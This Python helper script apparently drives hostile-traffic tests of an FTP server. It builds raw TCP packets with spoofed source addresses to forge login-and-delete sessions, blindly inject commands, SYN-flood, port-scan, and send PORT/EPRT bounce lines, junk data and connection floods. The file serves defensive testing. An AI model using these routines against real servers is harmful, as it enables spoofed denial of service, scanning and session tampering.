# What an attacker sends at an FTP server, for the hostile-traffic tests.
# Usage: hostile_client.py MOVE ARGS... It prints one line: what it sent.
# Raw packets are built here (IPv4, no options) so that their source
# address and sequence numbers are whatever the move needs. Every socket
# has a timeout: nothing here can hang the test.

import os
import random
import socket
import struct
import sys
import threading

TIMEOUT = 30
ACK, PSH, SYN = 0x10, 0x08, 0x02


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def tcp_packet(src, sport, dst, dport, seq, ack, flags, payload=b""):
    """An IPv4 TCP packet; the kernel fills in the IP checksum and length."""
    window = 65535
    header = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 5 << 4, flags, window, 0, 0)
    pseudo = struct.pack(
        "!4s4sBBH", socket.inet_aton(src), socket.inet_aton(dst), 0, 6, len(header) + len(payload)
    )
    tcp_sum = checksum(pseudo + header + payload)
    header = header[:16] + struct.pack("!H", tcp_sum) + header[18:]
    ip = struct.pack(
        "!BBHHHBBH4s4s",
        0x45, 0, 0, random.randrange(1, 65535), 0, 64, 6, 0,
        socket.inet_aton(src), socket.inet_aton(dst),
    )
    return ip + header + payload


def raw_socket():
    return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)


def forge(src, dst, dport):
    """A session's worth of commands from an address that never connected:
    no handshake, consecutive sequence numbers, as if the server had said
    hello."""
    sock = raw_socket()
    sport, seq, ack = 40000, random.getrandbits(32), random.getrandbits(32)
    lines = [b"USER forged-admin\r\n", b"PASS forged-secret\r\n", b"DELE /etc/important\r\n", b"QUIT\r\n"]
    for line in lines:
        sock.sendto(tcp_packet(src, sport, dst, dport, seq, ack, ACK | PSH, line), (dst, 0))
        seq = (seq + len(line)) & 0xFFFFFFFF
    return len(lines)


def inject(src, sport, dst, dport, count):
    """Commands in a real session's tuple with sequence numbers an off-path
    attacker guesses: each far from the window TCP accepts."""
    sock = raw_socket()
    for n in range(count):
        seq, ack = random.getrandbits(32), random.getrandbits(32)
        line = b"USER injected-evil\r\n" if n % 2 else b"DELE /etc/injected\r\n"
        sock.sendto(tcp_packet(src, sport, dst, int(dport), seq, ack, ACK | PSH, line), (dst, 0))
    return count


def syn_flood(dst, dport, count):
    """SYNs from spoofed TEST-NET-3 addresses and random ports."""
    sock = raw_socket()
    for _ in range(count):
        src = f"203.0.113.{random.randrange(1, 255)}"
        packet = tcp_packet(src, random.randrange(1024, 65535), dst, dport, random.getrandbits(32), 0, SYN)
        sock.sendto(packet, (dst, 0))
    return count


def port_scan(src, dst, first, last):
    """A SYN scan from one spoofed address: every port from `first` to
    `last` once, in order."""
    sock = raw_socket()
    for port in range(first, last + 1):
        sock.sendto(tcp_packet(src, 40404, dst, port, random.getrandbits(32), 0, SYN), (dst, 0))
    return last - first + 1


def drain(sock):
    """Reads the server's replies so that its writes never block ours."""
    try:
        while sock.recv(1 << 16):
            pass
    except OSError:
        pass


def control(host):
    sock = socket.create_connection((host, 21), timeout=TIMEOUT)
    sock.recv(1024)  # the greeting
    reader = threading.Thread(target=drain, args=(sock,), daemon=True)
    reader.start()
    return sock, reader


def finish(sock, reader):
    try:
        sock.shutdown(socket.SHUT_WR)
    except OSError:
        pass
    reader.join(TIMEOUT)
    sock.close()


def announce(host):
    """A client that says what only a server may say: 229 and 227 replies
    naming port 8080, sent as commands."""
    sock, reader = control(host)
    sock.sendall(b"229 Entering Extended Passive Mode (|||8080|)\r\n")
    sock.sendall(b"227 Entering Passive Mode (192,0,2,1,31,144).\r\n")
    sock.sendall(b"QUIT\r\n")
    finish(sock, reader)
    return 2


def announcement_flood(host, own, count):
    """`count` lines, without logging in: PORT and EPRT for the client's own
    address and for another one, and server-style 227/229 lines, every data
    port different."""
    sock, reader = control(host)
    own_parts = own.replace(".", ",")
    batch, sent = [], 0
    for n in range(count):
        port = 1024 + n % 64000
        kind = n % 4
        if kind == 0:
            line = f"PORT {own_parts},{port >> 8},{port & 255}"
        elif kind == 1:
            line = f"EPRT |1|198.51.100.7|{port}|"
        elif kind == 2:
            line = f"227 Entering Passive Mode (192,0,2,1,{port >> 8},{port & 255})"
        else:
            line = f"229 Entering Extended Passive Mode (|||{port}|)"
        batch.append(line + "\r\n")
        if len(batch) == 512:
            sock.sendall("".join(batch).encode())
            sent += len(batch)
            batch = []
    sock.sendall("".join(batch).encode())
    sent += len(batch)
    finish(sock, reader)
    return sent


def junk(host, size):
    """`size` random bytes with a line end now and then."""
    sock, reader = control(host)
    sent = 0
    while sent < size:
        chunk = bytearray(os.urandom(min(65536, size - sent)))
        for at in range(0, len(chunk), 97):
            chunk[at] = 10
        sock.sendall(chunk)
        sent += len(chunk)
    finish(sock, reader)
    return sent


def hold_many(host, count):
    """`count` control connections open at once, each logged in, then each
    says QUIT: the sessions overlap in time."""
    held = []
    for _ in range(count):
        sock = socket.create_connection((host, 21), timeout=TIMEOUT)
        reader = sock.makefile("rb")
        reader.readline()  # the greeting
        sock.sendall(b"USER anonymous\r\n")
        if not reader.readline().startswith(b"230"):
            raise SystemExit("login refused")
        held.append((sock, reader))
    for sock, reader in held:
        sock.sendall(b"QUIT\r\n")
    for sock, reader in held:
        reader.readline()  # 221
        sock.close()
    return count


def main():
    move, args = sys.argv[1], sys.argv[2:]
    if move == "forge":
        return forge(args[0], args[1], int(args[2]))
    if move == "inject":
        return inject(args[0], int(args[1]), args[2], args[3], int(args[4]))
    if move == "port_scan":
        return port_scan(args[0], args[1], int(args[2]), int(args[3]))
    if move == "syn_flood":
        return syn_flood(args[0], int(args[1]), int(args[2]))
    if move == "announce":
        return announce(args[0])
    if move == "announcement_flood":
        return announcement_flood(args[0], args[1], int(args[2]))
    if move == "hold_many":
        return hold_many(args[0], int(args[1]))
    if move == "junk":
        return junk(args[0], int(args[1]))
    raise SystemExit(f"unknown move {move}")


print(main(), flush=True)
